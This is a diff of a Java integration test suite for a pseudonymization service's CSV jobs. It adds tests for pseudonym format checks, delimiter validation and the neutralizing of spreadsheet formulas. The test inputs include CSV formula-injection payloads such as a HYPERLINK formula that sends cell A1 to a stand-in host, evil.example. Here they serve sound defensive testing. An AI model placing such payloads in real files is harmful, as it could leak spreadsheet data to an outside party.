@@ -225,15 +225,24 @@ class CsvJobsIT {
 
   @Test
   void anImportReportsEveryStatusAndOverwritesNothing() throws Exception {
+    // the imported pseudonyms fit the namespaces' format: "P-" and four base62 characters
+    JsonObject format =
+        new JsonObject()
+            .put(
+                "pseudonymGenerationMethod",
+                "PSEUDONYM_GENERATION_METHOD_FULL_RANDOM_BASE62_ENCODED")
+            .put("pseudonymLength", 4)
+            .put("pseudonymPrefix", "P-");
     String plain =
-        namespace("import", new JsonObject().put("originalValueValidationRegex", "^[a-z0-9-]+$"));
+        namespace("import", format.copy().put("originalValueValidationRegex", "^[a-z0-9-]+$"));
     String parent = namespace("parent");
     // the child's original values must be pseudonyms of its parent
     String inParent = create(parent, "parent-value");
     String child =
         namespace(
             "child",
-            new JsonObject()
+            format
+                .copy()
                 .put("parentName", parent)
                 .put("parentValidationMode", "PARENT_VALIDATION_MODE_ENSURE_EXISTS"));
     String existing = create(plain, "existing");
@@ -241,17 +250,17 @@ class CsvJobsIT {
         String.join(
                 "\n",
                 "original,pseudonym,namespace",
-                "new-1,P-NEW-1," + plain,
+                "new-1,P-NEW1," + plain,
                 "existing," + existing + "," + plain,
-                "existing,P-OTHER," + plain,
+                "existing,P-OTHR," + plain,
                 "new-2," + existing + "," + plain,
-                "NOT VALID,P-X," + plain,
-                "not-in-parent,P-Y," + child,
-                inParent + ",P-Z," + child,
-                "v,P-W,no-such-namespace-" + UUID.randomUUID(),
-                ",P-V," + plain,
+                "NOT VALID,P-XXXX," + plain,
+                "not-in-parent,P-YYYY," + child,
+                inParent + ",P-ZZZZ," + child,
+                "v,P-WWWW,no-such-namespace-" + UUID.randomUUID(),
+                ",P-VVVV," + plain,
                 "new-3,NULL," + plain,
-                "new-1,P-NEW-1," + plain)
+                "new-1,P-NEW1," + plain)
             + "\n";
 
     JsonObject request =
@@ -279,10 +288,10 @@ class CsvJobsIT {
             "MissingValue",
             "MissingValue",
             "AlreadyPresent");
-    assertThat(report.get(1).subList(0, 3)).containsExactly("new-1", "P-NEW-1", plain);
-    assertThat(create(plain, "new-1")).isEqualTo("P-NEW-1");
+    assertThat(report.get(1).subList(0, 3)).containsExactly("new-1", "P-NEW1", plain);
+    assertThat(create(plain, "new-1")).isEqualTo("P-NEW1");
     assertThat(create(plain, "existing")).isEqualTo(existing);
-    assertThat(create(child, inParent)).isEqualTo("P-Z");
+    assertThat(create(child, inParent)).isEqualTo("P-ZZZZ");
     assertThat(TestPostgres.pseudonymCount(plain)).isEqualTo(2);
     assertThat(done.getLong("missingValueCount")).isEqualTo(2);
   }
@@ -290,12 +299,20 @@ class CsvJobsIT {
   @Test
   void anImportIntoANamespaceOfSeveralPseudonymsAddsOneThenAnExportWritesEveryPair()
       throws Exception {
-    String ns = namespace("multi", new JsonObject().put("allowsMultiplePseudonyms", true));
+    String ns =
+        namespace(
+            "multi",
+            new JsonObject()
+                .put("allowsMultiplePseudonyms", true)
+                .put(
+                    "pseudonymGenerationMethod",
+                    "PSEUDONYM_GENERATION_METHOD_FULL_RANDOM_BASE32_ENCODED")
+                .put("pseudonymLength", 6));
     String first = create(ns, "person-1");
     JsonObject imported =
         run(
             CsvJobClient.request("IMPORT", Map.of(), CsvJobClient.mapping("o", "p", ns)),
-            "o,p\nperson-1,SECOND-PSEUDONYM\nperson-2,ONLY-ONE\n");
+            "o,p\nperson-1,SECOND\nperson-2,ONLYXX\n");
     assertThat(rows(CsvJobClient.download(imported), ','))
         .extracting(List::getLast)
         .containsExactly("status", "Imported", "Imported");
@@ -315,9 +332,241 @@ class CsvJobsIT {
     assertThat(pairs.subList(1, pairs.size()))
         .containsExactlyInAnyOrder(
             List.of("person-1", first),
-            List.of("person-1", "SECOND-PSEUDONYM"),
-            List.of("person-2", "ONLY-ONE"));
+            List.of("person-1", "SECOND"),
+            List.of("person-2", "ONLYXX"));
     assertThat(done.getLong("rowsProcessed")).isEqualTo(3);
+  }
+
+  /** Values a spreadsheet runs as a formula (or reads as a number): OWASP's first characters. */
+  private static final List<String> FORMULAS =
+      List.of(
+          "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+          "+49 30 1234",
+          "-5",
+          "@SUM(A1:A2)",
+          "\t=1+1",
+          "\r=1+1");
+
+  /** A namespace whose pseudonyms never start with a character a spreadsheet runs. */
+  private static String prefixedNamespace(String prefix) {
+    return namespace(prefix, new JsonObject().put("pseudonymPrefix", "f-"));
+  }
+
+  @Test
+  void aRevealNeutralizesEveryCellASpreadsheetWouldRunAndCountsThem() throws Exception {
+    String ns = prefixedNamespace("formulas-reveal");
+    StringBuilder file = new StringBuilder("pid,note\r\n");
+    for (int i = 0; i < FORMULAS.size(); i++) {
+      file.append(create(ns, FORMULAS.get(i))).append(",n").append(i).append("\r\n");
+    }
+    // a cell of the file itself, and a malformed row, which would reach the spreadsheet raw
+    file.append(create(ns, "plain")).append(",=1+2\r\n").append("=x,bro\"ken\r\n");
+
+    JsonObject done =
+        run(
+            CsvJobClient.request(
+                "DEPSEUDONYMIZE",
+                Map.of("fileName", "f.csv"),
+                CsvJobClient.mapping("pid", null, ns)),
+            file.toString());
+
+    String output = CsvJobClient.download(done);
+    List<List<String>> expected = new java.util.ArrayList<>();
+    expected.add(List.of("pid", "note"));
+    for (int i = 0; i < FORMULAS.size(); i++) {
+      expected.add(List.of("'" + FORMULAS.get(i), "n" + i));
+    }
+    expected.add(List.of("plain", "'=1+2"));
+    expected.add(List.of("'=x,bro\"ken"));
+    assertThat(rows(output, ',')).isEqualTo(expected);
+    // each neutralized cell is quoted, so that its text is one cell whatever the spreadsheet
+    assertThat(output)
+        .contains(
+            "\r\n\"'-5\",n2\r\n",
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"",
+            "\r\nplain,\"'=1+2\"\r\n",
+            "\r\n\"'=x,bro\"\"ken\"\r\n");
+    assertThat(done.getBoolean("xNeutralizeFormulas")).isTrue();
+    assertThat(done.getLong("xNeutralizedCellCount")).isEqualTo(FORMULAS.size() + 2);
+    assertThat(done.getLong("badDataRowCount")).isEqualTo(1);
+  }
+
+  @Test
+  void anExportNeutralizesOriginalValuesAndAJobMayAskForRawCells() throws Exception {
+    String ns = prefixedNamespace("formulas-export");
+    Map<String, String> pseudonyms = new HashMap<>();
+    for (String value : FORMULAS) {
+      pseudonyms.put(value, create(ns, value));
+    }
+    String plain = create(ns, "plain");
+
+    JsonObject exported =
+        jobs.awaitEnd(
+            jobs.create(
+                    CsvJobClient.request(
+                        "EXPORT", Map.of(), CsvJobClient.mapping("original", "pseudonym", ns)))
+                .getString("id"),
+            TIMEOUT);
+    List<List<String>> expected = new java.util.ArrayList<>();
+    FORMULAS.forEach(value -> expected.add(List.of("'" + value, pseudonyms.get(value))));
+    expected.add(List.of("plain", plain));
+    List<List<String>> pairs = rows(CsvJobClient.download(exported), ',');
+    assertThat(pairs.subList(1, pairs.size())).containsExactlyInAnyOrderElementsOf(expected);
+    assertThat(exported.getLong("xNeutralizedCellCount")).isEqualTo(FORMULAS.size());
+
+    // switched off for one job: the cells as they are stored
+    JsonObject raw =
+        jobs.awaitEnd(
+            jobs.create(
+                    CsvJobClient.request(
+                        "EXPORT",
+                        Map.of("xNeutralizeFormulas", false),
+                        CsvJobClient.mapping("original", "pseudonym", ns)))
+                .getString("id"),
+            TIMEOUT);
+    List<List<String>> rawPairs = rows(CsvJobClient.download(raw), ',');
+    assertThat(rawPairs.stream().skip(1).map(List::getFirst))
+        .containsExactlyInAnyOrderElementsOf(
+            java.util.stream.Stream.concat(FORMULAS.stream(), java.util.stream.Stream.of("plain"))
+                .toList());
+    assertThat(raw.getBoolean("xNeutralizeFormulas")).isFalse();
+    assertThat(raw.getLong("xNeutralizedCellCount")).isZero();
+
+    // a de-pseudonymize job switched off writes what it revealed as it is
+    JsonObject revealed =
+        run(
+            CsvJobClient.request(
+                "DEPSEUDONYMIZE",
+                Map.of("hasHeaderRow", false, "xNeutralizeFormulas", false),
+                CsvJobClient.mapping("0", null, ns)),
+            pseudonyms.get("-5") + "\n" + pseudonyms.get("@SUM(A1:A2)") + "\n");
+    assertThat(CsvJobClient.download(revealed)).isEqualTo("-5\n@SUM(A1:A2)\n");
+    assertThat(revealed.getLong("xNeutralizedCellCount")).isZero();
+  }
+
+  @Test
+  void aPseudonymizeJobWritesCellsAsTheyAreUnlessAsked() throws Exception {
+    String ns = prefixedNamespace("formulas-pseudonymize");
+    JsonObject kept =
+        run(
+            CsvJobClient.request("PSEUDONYMIZE", Map.of(), CsvJobClient.mapping("id", null, ns)),
+            "id,note\na,-5\n");
+    assertThat(rows(CsvJobClient.download(kept), ',').get(1))
+        .containsExactly(create(ns, "a"), "-5");
+    assertThat(kept.getBoolean("xNeutralizeFormulas")).isFalse();
+
+    JsonObject neutralized =
+        run(
+            CsvJobClient.request(
+                "PSEUDONYMIZE",
+                Map.of("xNeutralizeFormulas", true),
+                CsvJobClient.mapping("id", null, ns)),
+            "id,note\na,-5\n");
+    assertThat(rows(CsvJobClient.download(neutralized), ',').get(1))
+        .containsExactly(create(ns, "a"), "'-5");
+    assertThat(neutralized.getLong("xNeutralizedCellCount")).isEqualTo(1);
+  }
+
+  @Test
+  void anImportRefusesPseudonymsThatDoNotFitTheNamespacesFormatAndStoresNoneOfThem()
+      throws Exception {
+    String ns =
+        namespace(
+            "import-format",
+            new JsonObject()
+                .put(
+                    "pseudonymGenerationMethod",
+                    "PSEUDONYM_GENERATION_METHOD_FULL_RANDOM_HEX_ENCODED")
+                .put("pseudonymLength", 8)
+                .put("pseudonymPrefix", "h-")
+                .put("pseudonymSuffix", "-x"));
+    String file =
+        String.join(
+                "\n",
+                "original,pseudonym",
+                "a,h-0123abcd-x",
+                "b,\"=HYPERLINK(\"\"http://evil.example\"\")\"",
+                "c,h-0123abc-x",
+                "d,h-0123ABCD-x",
+                "e,g-0123abcd-x",
+                "f,h-0123abcd-y",
+                "g,h-0123abcd",
+                "h,h--123abcd-x",
+                "-5,h-00000005-x")
+            + "\n";
+
+    JsonObject done =
+        run(
+            CsvJobClient.request(
+                "IMPORT", Map.of(), CsvJobClient.mapping("original", "pseudonym", ns)),
+            file);
+
+    List<List<String>> report = rows(CsvJobClient.download(done), ',');
+    assertThat(report.stream().skip(1).map(List::getLast))
+        .containsExactly(
+            "Imported",
+            "InvalidPseudonymValue",
+            "InvalidPseudonymValue",
+            "InvalidPseudonymValue",
+            "InvalidPseudonymValue",
+            "InvalidPseudonymValue",
+            "InvalidPseudonymValue",
+            "InvalidPseudonymValue",
+            "Imported");
+    // the report holds original values: neutralized as an export's
+    assertThat(report.get(2).get(1)).isEqualTo("'=HYPERLINK(\"http://evil.example\")");
+    assertThat(report.get(9).getFirst()).isEqualTo("'-5");
+    assertThat(done.getLong("xNeutralizedCellCount")).isEqualTo(2);
+    assertThat(TestPostgres.pseudonymCount(ns)).isEqualTo(2);
+    assertThat(http.get("/v1/namespaces/" + ns + "/pseudonyms/h-0123abcd-x").status())
+        .isEqualTo(200);
+  }
+
+  @Test
+  void aDelimiterIsOnePrintableAsciiCharacterOrATabCheckedAtCreation() {
+    String ns = namespace("delimiters");
+    for (String refused :
+        List.of("\0", "ä", "€", "\n", "\r", "\"", "a", "Z", "7", "\u0085", "\u007f", ";;")) {
+      HttpTestClient.Response answer =
+          http.postJson(
+              "/v1/csv-jobs",
+              CsvJobClient.request(
+                      "PSEUDONYMIZE",
+                      Map.of("delimiter", refused),
+                      CsvJobClient.mapping("id", null, ns))
+                  .encode());
+      assertThat(answer.status()).as("%s: %s", refused, answer.body()).isEqualTo(400);
+      assertThat(answer.json().getInteger("code")).isEqualTo(3);
+      assertThat(answer.json().getString("message")).startsWith("delimiter:");
+    }
+    for (String accepted : List.of("\t", ";", "|", ",", " ", "'", "#", "~")) {
+      HttpTestClient.Response answer =
+          http.postJson(
+              "/v1/csv-jobs",
+              CsvJobClient.request(
+                      "PSEUDONYMIZE",
+                      Map.of("delimiter", accepted),
+                      CsvJobClient.mapping("id", null, ns))
+                  .encode());
+      assertThat(answer.status()).as("%s: %s", accepted, answer.body()).isEqualTo(200);
+      assertThat(answer.json().getString("delimiter")).isEqualTo(accepted);
+    }
+    try (GrpcTestClient grpc = new GrpcTestClient(server.grpcPort())) {
+      for (String refused : List.of("\0", "ä")) {
+        GrpcTestClient.Reply<CsvJob> reply =
+            grpc.call(
+                CsvJobServiceGrpcClient.CreateCsvJob,
+                CreateCsvJobRequest.newBuilder()
+                    .setDirection(CsvJobDirection.CSV_JOB_DIRECTION_PSEUDONYMIZE)
+                    .setDelimiter(refused)
+                    .addColumnMappings(
+                        ColumnMapping.newBuilder().setSourceColumn("id").setNamespace(ns))
+                    .build());
+        assertThat(reply.status()).as(reply.message()).isEqualTo(GrpcStatus.INVALID_ARGUMENT);
+        assertThat(reply.message()).startsWith("delimiter:");
+      }
+    }
+    assertThat(logs.atLeast(ch.qos.logback.classic.Level.ERROR)).isEmpty();
   }
 
   @Test
@@ -418,6 +667,7 @@ class CsvJobsIT {
               CreateCsvJobRequest.newBuilder()
                   .setDirection(CsvJobDirection.CSV_JOB_DIRECTION_EXPORT)
                   .setHasHeaderRow(false)
+                  .setXNeutralizeFormulas(false)
                   .addColumnMappings(
                       ColumnMapping.newBuilder()
                           .setSourceColumn("o")
@@ -434,6 +684,8 @@ class CsvJobsIT {
               GetCsvJobRequest.newBuilder().setId(created.getId()).build());
       assertThat(got.getStatus()).isEqualTo(CsvJobStatus.CSV_JOB_STATUS_COMPLETED);
       assertThat(got.getDownloadUrl()).isNotEmpty();
+      assertThat(got.getXNeutralizeFormulas()).isFalse();
+      assertThat(created.getXNeutralizeFormulas()).isFalse();
       assertThat(
               grpc.call(
                       CsvJobServiceGrpcClient.GetCsvJob,
